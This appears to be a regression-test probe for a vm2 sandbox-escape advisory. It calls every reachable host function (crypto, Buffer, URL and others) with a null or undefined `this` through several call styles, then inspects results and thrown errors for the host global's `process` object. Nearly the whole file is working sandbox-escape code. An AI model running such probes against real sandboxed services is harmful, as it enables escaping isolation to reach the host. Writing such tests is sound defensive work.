// Source: vm2 test/ghsa/GHSA-j89j-5m6r-cr2q (fixed after vm2 3.11.2, by 3.12.2; PoC shape from vm2's lib/bridge.js
// comment for it): a sloppy host function called with a nullish `this` gets the HOST global object
// from V8, and returning or throwing it handed the host global to the sandbox.
// Tried: call every host function this sandbox can reach with `this` = undefined/null through call,
// apply, Reflect.apply, bind and Buffer.call.call, and inspect what comes back or is thrown.
const out = { candidates: 0 };
const hostFns = [];
const add = (fn) => { if (typeof fn === 'function') hostFns.push(fn); };
for (const owner of [crypto, Buffer, Buffer.prototype, URL, URL.prototype, URLSearchParams.prototype, TextEncoder.prototype, TextDecoder.prototype]) {
  for (const key of Reflect.ownKeys(owner)) { try { add(owner[key]); } catch (e) {} }
}
for (const fn of hostFns) {
  for (const thisArg of [undefined, null]) {
    for (const call of [(f) => f.call(thisArg), (f) => f.apply(thisArg, []), (f) => Reflect.apply(f, thisArg, []), (f) => f.bind(thisArg)(), (f) => Buffer.call.call(f, thisArg)]) {
      out.candidates++;
      try { const r = call(fn); if (r && (typeof r === 'object' || typeof r === 'function')) { __wr.use(r, 'result of a host function with nullish this'); __wr.use(r.process, '.process of that result'); } } catch (e) { if (e && typeof e === 'object') __wr.use(e.process, 'thrown .process'); }
    }
  }
}
return out;
